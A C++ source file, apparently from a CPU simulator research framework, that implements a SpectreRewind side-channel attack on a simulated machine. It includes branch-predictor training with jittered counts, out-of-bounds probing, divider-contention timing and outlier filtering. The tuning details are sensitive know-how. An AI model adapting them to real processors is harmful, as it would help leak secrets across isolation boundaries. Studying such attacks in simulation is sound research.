#include "core/attacks/rewind.h"

#include <algorithm>

#include "isa/builder.h"

namespace whisper::core {

namespace {

isa::Program make_victim_touch() {
  isa::ProgramBuilder b;
  b.load_byte(isa::Reg::RAX, isa::Reg::RDI);
  b.halt();
  return b.build();
}

}  // namespace

SpectreRewind::SpectreRewind(os::Machine& m, Options opt)
    // Mean decode, not batch votes: a probe's window only opens when its
    // gshare phase lands on an unpoisoned PHT entry, so the matching value
    // may stand out in a minority of batches — enough to dominate the
    // per-value mean, but easily outvoted batch-by-batch.
    : ChannelAttack(m, "rewind", opt, Polarity::Max, /*default_batches=*/3,
                    DecodeBy::Mean),
      trainings_per_probe_(opt.trainings_per_probe),
      gadget_(make_rewind_gadget(opt.receiver_divs)),
      touch_(make_victim_touch()) {
  install_victim();
}

void SpectreRewind::install_victim() {
  m_.poke64(kLenAddr, kArrayLen);
  for (std::uint64_t i = 0; i < kArrayLen; ++i)
    m_.poke8(kArrayBase + i, static_cast<std::uint8_t>(i));
}

std::uint64_t SpectreRewind::probe(std::uint64_t index, int test_value,
                                   AttackResult& r) {
  std::array<std::uint64_t, isa::kNumRegs> regs{};
  regs[static_cast<std::size_t>(isa::Reg::RDI)] = kLenAddr;
  regs[static_cast<std::size_t>(isa::Reg::RSI)] = index;
  regs[static_cast<std::size_t>(isa::Reg::RDX)] = kArrayBase;
  regs[static_cast<std::size_t>(isa::Reg::RBX)] =
      static_cast<std::uint64_t>(test_value);
  ++r.probes;
  return run_tote(m_, gadget_, regs);
}

void SpectreRewind::sweep(std::uint64_t secret_vaddr, int round,
                          AttackResult& r) {
  const std::uint64_t oob_index = secret_vaddr - kArrayBase;
  std::array<std::uint64_t, isa::kNumRegs> victim{};
  victim[static_cast<std::size_t>(isa::Reg::RDI)] = secret_vaddr;

  for (int tv = 0; tv <= 255; ++tv) {
    // Victim activity: the secret line must be cache-resident for the
    // transient FDIV to contend inside the window. Re-touched per test
    // value because prefetcher noise can evict the line mid-batch.
    (void)m_.run_user(touch_, victim);
    // Train the bounds branch in-bounds (predicted not-taken). The
    // training count is jittered per probe: with a fixed cadence every
    // probe's bounds check is fetched at the same gshare history phase,
    // so one PHT entry decides every window and a single poisoned
    // counter kills the whole attack. Rotating the phase spreads the
    // predictions over many entries, where the 4:1 not-taken:taken
    // update ratio keeps the window reopening.
    const int jitter = (tv * 7 + round * 13) % 3;
    std::uint64_t baseline = ~std::uint64_t{0};
    for (int t = 0; t < trainings_per_probe_ + jitter; ++t)
      baseline = std::min(
          baseline, probe(static_cast<std::uint64_t>(t) % kArrayLen, tv, r));
    // …then probe out of bounds: the divider-contending FDIV runs
    // transiently, and only a matching test value makes it slow. A probe
    // that a timer interrupt lands in carries the handler's ~2500 cycles
    // on top of a ~22-cycle signal; against the per-value mean one such
    // outlier outweighs every clean sample, so anything far above this
    // value's own in-bounds training floor is discarded.
    const std::uint64_t tote = probe(oob_index, tv, r);
    if (tote <= baseline + kOutlierSlack) analyzer_.add(tv, tote);
  }
}

void SpectreRewind::execute(std::span<const std::uint8_t> payload,
                            AttackResult& r) {
  m_.poke_bytes(kArrayBase + kSecretOffset, payload);
  decode_bytes(kArrayBase + kSecretOffset, payload.size(), r);
}

}  // namespace whisper::core
